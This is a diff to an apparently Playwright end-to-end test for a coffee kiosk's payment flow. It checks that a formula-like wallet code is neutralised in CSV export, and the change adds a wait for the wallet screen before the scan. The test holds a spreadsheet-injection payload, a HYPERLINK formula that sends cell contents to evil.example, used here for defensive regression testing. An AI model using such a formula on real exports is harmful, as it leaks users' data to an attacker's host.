@@ -166,6 +166,9 @@ test('the CSV export of a formula-like wallet code is inert; the JSON keeps it a
   await openKiosk(page, request);
   const formula = '=HYPERLINK("http://evil.example/?"&K2&L2,"Open")';
   await orderAndChoose(page, ['Cappuccino'], 'Click');
+  // The hand scanner is read once the wallet screen is up: a burst before it (the order number still being
+  // allocated) goes to no screen and is dropped, as on a real kiosk.
+  await expect(page.getByRole('heading', { name: 'Pay with Click' })).toBeVisible();
   // Printable ASCII without spaces: it passes the wallet code check, as the security review found.
   await wedgeScan(page, formula);
   await expect(page.getByRole('heading', { name: 'Thank you!' })).toBeVisible();
